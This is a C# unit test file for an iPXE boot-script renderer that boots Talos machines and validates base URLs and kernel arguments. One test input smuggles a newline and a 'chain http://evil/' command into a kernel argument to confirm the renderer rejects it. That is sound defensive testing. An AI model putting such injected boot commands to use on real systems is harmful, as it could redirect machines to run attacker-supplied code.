using Ktizo.Core;
using Ktizo.Core.Boot;

namespace Ktizo.Gatekeeper.Tests.Boot;

public class BootScriptTests
{
    [Fact]
    public void Render_WithBaseUrlAndArgs_WritesTheWholeScript()
    {
        var script = BootScript.Render(new Uri("http://10.0.5.2:8000"), ["console=ttyS0", "pti=on"]);

        Assert.Equal(
            "#!ipxe\n"
            + "# Ktizo: boot Talos; Talos then asks the gatekeeper for this machine's config.\n"
            + "kernel http://10.0.5.2:8000/talos/vmlinuz initrd=initramfs.xz talos.platform=metal console=ttyS0 pti=on"
            + " talos.config=http://10.0.5.2:8000/api/v1/config/download?mac=${mac:hexhyp}&uuid=${uuid}\n"
            + "initrd --name initramfs.xz http://10.0.5.2:8000/talos/initramfs.xz\n"
            + "boot\n",
            script);
    }

    [Theory]
    [InlineData("http://ktizo.lan:8000/", "http://ktizo.lan:8000")]
    [InlineData("https://gw.example/ktizo/", "https://gw.example/ktizo")]
    [InlineData("http://10.0.5.2", "http://10.0.5.2")]
    public void BaseUrl_WithTrailingSlashOrPrefix_KeepsPrefixWithoutSlash(string url, string expected) =>
        Assert.Equal(expected, BootScript.BaseUrl(new Uri(url)));

    [Theory]
    [InlineData("ftp://10.0.5.2/")]
    [InlineData("http://10.0.5.2/?x=1")]
    [InlineData("http://10.0.5.2/#top")]
    [InlineData("http://10.0.5.2/$prefix")]
    public void BaseUrl_WhenNotAPlainHttpUrl_Throws(string url) =>
        Assert.Throws<KtizoException>(() => BootScript.BaseUrl(new Uri(url)));

    [Theory]
    [InlineData("console=ttyS0\nchain http://evil/")]
    [InlineData("a b")]
    [InlineData("tab\there")]
    public void Render_WhenAnArgumentIsNotOneWord_Throws(string arg) =>
        Assert.Throws<KtizoException>(() => BootScript.Render(new Uri("http://10.0.5.2:8000"), [arg]));
}
